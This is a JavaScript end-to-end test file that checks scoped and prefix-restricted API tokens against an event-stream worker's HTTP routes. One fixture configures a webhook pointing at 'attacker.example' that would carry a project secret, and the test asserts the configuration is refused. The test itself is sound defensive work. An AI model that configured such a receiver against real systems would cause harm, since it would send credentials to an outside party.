// Scoped tokens end to end (docs/design.md §2 Scopes, issue 22) over HTTP against
// the built worker: the matrix scope × route (a token holding the scopes a
// route needs is not refused; one lacking any gets 403 `forbidden_scope`
// naming it), prefix tokens refused outside their prefix, for the
// project-wide processors, sources and secrets (and for a receiver naming
// a secret), and for moving, resuming or replaying a copy another token
// configured outside the prefix, the catalog narrowed to the prefix,
// refused requests commit nothing, `GET /v1/token`, and hostile scoped
// values answering 500 `misconfigured`. The mapping itself is
// `src/route/scope.rs`, its native matrix `tests/scoped_tokens.rs`.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { Miniflare } from "miniflare";
import { rmSync } from "node:fs";
import { freshStateDir, streamUrl, workerOptions } from "./harness.mjs";
import { eventually } from "./delivery_helpers.mjs";

const P = "project-scoped";
const TOKENS = {
  full: P,
  read: { project: P, scopes: ["read"] },
  append: { project: P, scopes: ["append"] },
  manage: { project: P, scopes: ["manage"] },
  app: { project: P, scopes: ["read", "append", "manage"], prefix: "/app/" },
  appRead: { project: P, scopes: ["read"], prefix: "/app/" },
};

/** A worker whose API_TOKENS is `tokens` (a string, as configured). */
async function startWith(tokens) {
  const dir = freshStateDir("tributary-e2e-scoped-");
  const options = workerOptions({ persistDir: dir });
  options.bindings.API_TOKENS = tokens;
  const mf = new Miniflare(options);
  const url = (await mf.ready).toString().replace(/\/$/, "");
  return {
    url,
    async cleanup() {
      await mf.dispose().catch(() => {});
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

let w;
before(async () => {
  w = await startWith(JSON.stringify(TOKENS));
});
after(async () => {
  await w?.cleanup();
});

/** `{status, body}`; an event stream is closed once its headers arrive. */
async function call(token, method, path, body) {
  const headers = { authorization: `Bearer ${token}` };
  if (path.endsWith("/-/live")) headers.accept = "text/event-stream";
  if (body !== undefined) headers["content-type"] = "application/json";
  const controller = new AbortController();
  const response = await fetch(`${w.url}${path}`, { method, headers, body, signal: controller.signal });
  if ((response.headers.get("content-type") ?? "").startsWith("text/event-stream")) {
    controller.abort();
    return { status: response.status, body: null };
  }
  const text = await response.text();
  let parsed = text;
  try {
    parsed = text.length ? JSON.parse(text) : null;
  } catch {}
  return { status: response.status, body: parsed };
}

const appendOk = async (path, event) => {
  const res = await call("full", "POST", streamUrl(path, "events"), JSON.stringify(event));
  assert.equal(res.status, 201, JSON.stringify(res.body));
  return res.body.event;
};
const head = async (path) => {
  const res = await call("full", "GET", streamUrl(path, "events"));
  assert.equal(res.status, 200, JSON.stringify(res.body));
  return res.body.events.map((e) => e.offset);
};

const DATA = JSON.stringify({ type: "order-placed", payload: { n: 1 } });
const CONTROL = JSON.stringify({ type: "events.iterate.com/stream/subscription-removed", payload: { subscriptionKey: "nope" } });
const MIXED = JSON.stringify({ events: [JSON.parse(DATA), JSON.parse(CONTROL)] });

/** Every public route once, with the scopes it needs; destructive ones last. */
function routes(base) {
  const s = (action) => streamUrl(base, action);
  return [
    ["POST", "/v1/jsonata/evaluate", JSON.stringify({ expression: "1 + 1" }), []],
    ["GET", "/v1/token", undefined, []],
    ["GET", "/v1/streams", undefined, ["read"]],
    ["GET", "/v1/processors", undefined, ["read"]],
    ["GET", "/v1/processors/totals", undefined, ["read"]],
    ["GET", "/v1/sources", undefined, ["read"]],
    ["GET", "/v1/sources/usdc", undefined, ["read"]],
    ["GET", s(), undefined, ["read"]],
    ["POST", s("events"), DATA, ["append"]],
    ["POST", s("events"), CONTROL, ["manage"]],
    ["POST", s("events"), MIXED, ["append", "manage"]],
    ["GET", s("events"), undefined, ["read"]],
    ["GET", s("events/1"), undefined, ["read"]],
    ["GET", s("metrics"), undefined, ["read"]],
    ["GET", s("subscriptions"), undefined, ["read"]],
    ["GET", s("live"), undefined, ["read"]],
    ["GET", s("processors/totals"), undefined, ["read"]],
    ["GET", s("dead-letters"), undefined, ["read"]],
    ["GET", s("subscriptions/k/signing-secret"), undefined, ["manage"]],
    ["POST", s("dead-letters/4/replay"), undefined, ["manage"]],
    ["DELETE", s("dead-letters/4"), undefined, ["manage"]],
    ["DELETE", s("dead-letters") + "?subscriptionKey=k", undefined, ["manage"]],
    ["POST", streamUrl(`${base}-dst`, "subscribe-from"), JSON.stringify({ sourcePath: base, idempotencyKey: "sf" }), ["manage"]],
    ["PUT", "/v1/processors/totals", "{}", ["manage"]],
    ["DELETE", "/v1/processors/totals", undefined, ["manage"]],
    ["PUT", "/v1/sources/usdc", "{}", ["manage"]],
    ["DELETE", "/v1/sources/usdc", undefined, ["manage"]],
    ["GET", "/v1/secrets", undefined, ["manage"]],
    ["PUT", "/v1/secrets/HOOK", JSON.stringify({ value: "https://example.com/hook" }), ["manage"]],
    ["DELETE", "/v1/secrets/HOOK", undefined, ["manage"]],
    ["DELETE", s(), undefined, ["manage"]],
  ];
}

function assertForbidden(res, what) {
  assert.equal(res.status, 403, `${what}: ${JSON.stringify(res.body)}`);
  assert.equal(res.body.error.code, "forbidden_scope", what);
  assert.equal(typeof res.body.error.message, "string");
  return res.body.error.details;
}

test("§2 Scopes: for every route, a token holding only the scope it needs is not refused, and each token lacking it gets 403 forbidden_scope naming the scope", { timeout: 120_000 }, async () => {
  const base = "/app/matrix/a";
  await appendOk(base, { type: "seed" });
  const problems = [];
  for (const [method, path, body, needed] of routes(base)) {
    for (const token of ["read", "append", "manage"]) {
      const res = await call(token, method, path, body);
      const what = `${token} ${method} ${path} ${body ?? ""}`;
      const allowed = needed.every((scope) => scope === token);
      if (allowed && res.status === 403) problems.push(`${what} → 403 ${JSON.stringify(res.body)}`);
      if (!allowed) {
        if (res.status !== 403 || res.body?.error?.code !== "forbidden_scope") {
          problems.push(`${what} → ${res.status} ${JSON.stringify(res.body)}`);
        } else if (!needed.includes(res.body.error.details.scope) || res.body.error.details.scope === token) {
          problems.push(`${what} names ${JSON.stringify(res.body.error.details)}`);
        }
      }
    }
    // A project-id token holds every scope.
    const full = await call("full", method, path, body);
    if (full.status === 403) problems.push(`full ${method} ${path} → 403 ${JSON.stringify(full.body)}`);
  }
  assert.deepEqual(problems, []);
});

test("§2 Scopes: a refused append commits nothing — not a data event without append, not a control event without manage, not a mixed batch without both", async () => {
  const path = "/app/refused/a";
  const seeded = await appendOk(path, { type: "seed" });
  for (const [token, body, scope] of [
    ["read", DATA, "append"],
    ["manage", DATA, "append"],
    ["append", CONTROL, "manage"],
    ["append", MIXED, "manage"],
    ["manage", MIXED, "append"],
  ]) {
    const details = assertForbidden(await call(token, "POST", streamUrl(path, "events"), body), `${token} ${body}`);
    assert.deepEqual(details, { scope });
  }
  // The next committed event takes the next offset: nothing was committed between.
  const next = await appendOk(path, { type: "after" });
  assert.equal(next.offset, seeded.offset + 1);
  assert.deepEqual(await head(path), [seeded.offset, next.offset]);
});

test("§2 Scopes: a prefix token reaches only streams under its prefix; processors, sources and secrets need an unprefixed token", async () => {
  await appendOk("/other/x", { type: "seed" });
  for (const [method, path, body] of routes("/other/x")) {
    const res = await call("app", method, path, body);
    const what = `app ${method} ${path}`;
    if (path.startsWith("/v1/streams/")) {
      const details = assertForbidden(res, what);
      assert.equal(details.prefix, "/app/", what);
      assert.match(details.path, /^\/other\/x/, what);
    } else if (["/v1/processors", "/v1/sources", "/v1/secrets"].some((prefix) => path.startsWith(prefix))) {
      assert.deepEqual(assertForbidden(res, what), { prefix: "/app/", resource: "project" });
    } else {
      assert.notEqual(res.status, 403, `${what}: ${JSON.stringify(res.body)}`);
    }
  }
  // `/app/` covers what is below /app, on segment boundaries only.
  for (const path of ["/app", "/apple/x"]) {
    assertForbidden(await call("app", "GET", streamUrl(path)), path);
  }
  // Nor through a copy configured inside the prefix into a stream outside it.
  const copyOut = JSON.stringify({
    type: "events.iterate.com/stream/subscription-configured",
    payload: { subscriptionKey: "out", receiver: { action: "copy-to-stream", receivingStreamPath: "/other/x" } },
  });
  const refusedCopy = await call("app", "POST", streamUrl("/app/copier", "events"), copyOut);
  assert.deepEqual(assertForbidden(refusedCopy, "copy out"), { prefix: "/app/", path: "/other/x" });
  assert.equal((await call("full", "GET", streamUrl("/app/copier"))).status, 404, "the refused configure created nothing");
  assert.deepEqual(await head("/other/x"), [1], "nothing was appended outside the prefix");
  const inside = await call("app", "POST", streamUrl("/app/inside", "events"), DATA);
  assert.equal(inside.status, 201, JSON.stringify(inside.body));
  // Nor name a project secret in a receiver it configures (§9): it could send it to a URL of its own.
  const namesSecret = JSON.stringify({
    type: "events.iterate.com/stream/subscription-configured",
    payload: { subscriptionKey: "out", receiver: { action: "webhook-post", url: "https://attacker.example/h", headers: { authorization: { secret: "HOOK" } }, delivery: { start: "now", onFailingEvent: "skip" } } },
  });
  const refusedSecret = await call("app", "POST", streamUrl("/app/secretive", "events"), namesSecret);
  assert.deepEqual(assertForbidden(refusedSecret, "secret reference"), { prefix: "/app/", resource: "project" });
  assert.equal((await call("full", "GET", streamUrl("/app/secretive"))).status, 404, "the refused configure created nothing");
});

const CONFIGURED = "events.iterate.com/stream/subscription-configured";
const copyTo = (key, target) => ({
  type: CONFIGURED,
  payload: { subscriptionKey: key, receiver: { action: "copy-to-stream", receivingStreamPath: target, delivery: { start: "beginning", onFailingEvent: "halt" } } },
});
const dataIn = async (path) => (await call("full", "GET", streamUrl(path, "events"))).body?.events?.filter((e) => e.type === "order-placed").length ?? 0;
const info = async (path) => (await call("full", "GET", streamUrl(path))).body;

test("§2 Scopes: a prefix token may not move, resume or replay a copy another token configured into a stream outside its prefix; it may move one inside", { timeout: 60_000 }, async () => {
  const source = "/app/o";
  // An unrestricted token copies /app/o into /audit/all (outside /app/) and /app/mirror (inside).
  await appendOk(source, copyTo("audit", "/audit/all"));
  await appendOk(source, copyTo("mirror", "/app/mirror"));
  for (let n = 0; n < 3; n++) await appendOk(source, JSON.parse(DATA));
  await eventually(async () => {
    assert.equal(await dataIn("/audit/all"), 3);
    assert.equal(await dataIn("/app/mirror"), 3);
  }, { what: "both copies caught up" });
  const before = await info(source);
  const events = streamUrl(source, "events");
  const rewind = (key) => JSON.stringify({ type: "events.iterate.com/stream/subscription-cursor-set", payload: { subscriptionKey: key, afterOffset: 0 } });
  const resume = JSON.stringify({ type: "events.iterate.com/stream/subscription-delivery-resumed", payload: { subscriptionKey: "audit" } });
  for (const [what, body] of [
    ["cursor-set", rewind("audit")],
    ["resume", resume],
    ["a batch with a cursor-set", JSON.stringify({ events: [JSON.parse(DATA), JSON.parse(rewind("audit"))] })],
  ]) {
    assert.deepEqual(assertForbidden(await call("app", "POST", events, body), what), { prefix: "/app/", path: "/audit/all" }, what);
  }
  const after = await info(source);
  assert.equal(after.head, before.head, "nothing was committed");
  assert.deepEqual(after.state.subscriptions.outbound.byKey.audit, before.state.subscriptions.outbound.byKey.audit);
  // The same move of the copy inside the prefix is allowed: it copies the log again…
  const allowed = await call("app", "POST", events, rewind("mirror"));
  assert.equal(allowed.status, 201, JSON.stringify(allowed.body));
  assert.equal(allowed.body.event.offset, before.head + 1, "the refused ones took no offset");
  await eventually(async () => assert.equal(await dataIn("/app/mirror"), 6), { what: "the allowed rewind copied again" });
  // …while /audit/all got nothing new.
  assert.equal(await dataIn("/audit/all"), 3);

  // A dead letter whose subscription is now a copy outside the prefix is not replayed.
  await appendOk(source, {
    type: CONFIGURED,
    payload: {
      subscriptionKey: "k",
      filter: { eventTypes: ["order-placed"] },
      receiver: { action: "log", jsonataTransform: "$error('refused')", delivery: { start: "now", onFailingEvent: "skip" } },
    },
  });
  await appendOk(source, JSON.parse(DATA));
  const letter = await eventually(async () => {
    const res = await call("full", "GET", `${streamUrl(source, "dead-letters")}?subscriptionKey=k`);
    assert.equal(res.body.deadLetters.length, 1, JSON.stringify(res.body));
    return res.body.deadLetters[0];
  }, { what: "the dead letter" });
  await appendOk(source, copyTo("k", "/audit/all"));
  const replay = await call("app", "POST", streamUrl(source, `dead-letters/${letter.id}/replay`));
  assert.deepEqual(assertForbidden(replay, "replay"), { prefix: "/app/", path: "/audit/all" });
  // The letter is still there, and another stream answers.
  const letters = await call("full", "GET", `${streamUrl(source, "dead-letters")}?subscriptionKey=k`);
  assert.deepEqual(letters.body.deadLetters.map((l) => l.id), [letter.id]);
  const elsewhere = await call("app", "POST", streamUrl("/app/elsewhere", "events"), DATA);
  assert.equal(elsewhere.status, 201, JSON.stringify(elsewhere.body));
});

test("§2 Scopes §5: subscribe-from needs manage on the source stream as well as the receiving one", async () => {
  const source = "/other/sf-source";
  await appendOk(source, { type: "seed" });
  const body = JSON.stringify({ sourcePath: source, idempotencyKey: "sf-1" });
  const details = assertForbidden(await call("app", "POST", streamUrl("/app/sf-dst", "subscribe-from"), body), "subscribe-from");
  assert.deepEqual(details, { prefix: "/app/", path: source });
  // Nothing was configured on the source: its head is the seed alone.
  assert.deepEqual(await head(source), [1]);
  const inside = JSON.stringify({ sourcePath: "/app/sf-source", idempotencyKey: "sf-2" });
  await appendOk("/app/sf-source", { type: "seed" });
  const ok = await call("app", "POST", streamUrl("/app/sf-dst", "subscribe-from"), inside);
  assert.equal(ok.status, 201, JSON.stringify(ok.body));
});

test("§2 Scopes §14: the catalog of a prefix token lists only streams under its prefix, intersected with the query's", async () => {
  await appendOk("/app/cat/one", { type: "seed" });
  await appendOk("/zzz/cat/two", { type: "seed" });
  const list = async (token, query = "") => {
    const res = await call(token, "GET", `/v1/streams${query}`);
    assert.equal(res.status, 200, JSON.stringify(res.body));
    return res.body.streams.map((s) => s.path);
  };
  // Both are registered (the full token sees them) before the narrow view is judged.
  await eventually(async () => {
    const all = await list("full");
    assert.ok(all.includes("/app/cat/one") && all.includes("/zzz/cat/two"), JSON.stringify(all));
  }, { what: "both streams in the catalog" });
  const narrow = await list("appRead");
  assert.ok(narrow.includes("/app/cat/one"), JSON.stringify(narrow));
  assert.ok(narrow.every((path) => path.startsWith("/app/")), JSON.stringify(narrow));
  assert.deepEqual(await list("appRead", "?prefix=/zzz/"), []);
  assert.deepEqual(await list("appRead", "?prefix=/app/cat/"), ["/app/cat/one"]);
  assert.deepEqual(await list("appRead", `?prefix=${encodeURIComponent("/a")}&limit=500`), narrow);
  const refused = await call("appRead", "GET", "/v1/streams?limit=0");
  assert.equal(refused.status, 400, JSON.stringify(refused.body));
});

test("§2 Scopes: GET /v1/token answers what the token grants", async () => {
  const grant = async (token) => {
    const res = await call(token, "GET", "/v1/token");
    assert.equal(res.status, 200, JSON.stringify(res.body));
    return res.body;
  };
  assert.deepEqual(await grant("full"), { project: P, scopes: ["read", "append", "manage"], prefix: null });
  assert.deepEqual(await grant("read"), { project: P, scopes: ["read"], prefix: null });
  assert.deepEqual(await grant("appRead"), { project: P, scopes: ["read"], prefix: "/app/" });
  assert.equal((await call("nobody", "GET", "/v1/token")).status, 401);
  assert.equal((await call("full", "POST", "/v1/token", "{}")).status, 405);
});

for (const [what, value] of [
  ["scopes not an array", { project: P, scopes: "read" }],
  ["an unknown scope", { project: P, scopes: ["read", "admin"] }],
  ["a prefix without a leading slash", { project: P, scopes: ["read"], prefix: "app/" }],
  ["a huge prefix", { project: P, scopes: ["read"], prefix: `/${"a".repeat(600)}/` }],
  ["a misspelt field", { project: P, scopes: ["read"], prefx: "/app/" }],
]) {
  test(`§2 Scopes: API_TOKENS with ${what} → every request 500 misconfigured`, async () => {
    const hostile = await startWith(JSON.stringify({ ok: P, bad: value }));
    try {
      for (const token of ["ok", "bad"]) {
        const res = await fetch(`${hostile.url}/v1/token`, { headers: { authorization: `Bearer ${token}` } });
        const body = await res.json();
        assert.equal(res.status, 500, JSON.stringify(body));
        assert.equal(body.error.code, "misconfigured");
        assert.match(body.error.message, /^API_TOKENS entry \d+: /);
      }
    } finally {
      await hostile.cleanup();
    }
  });
}
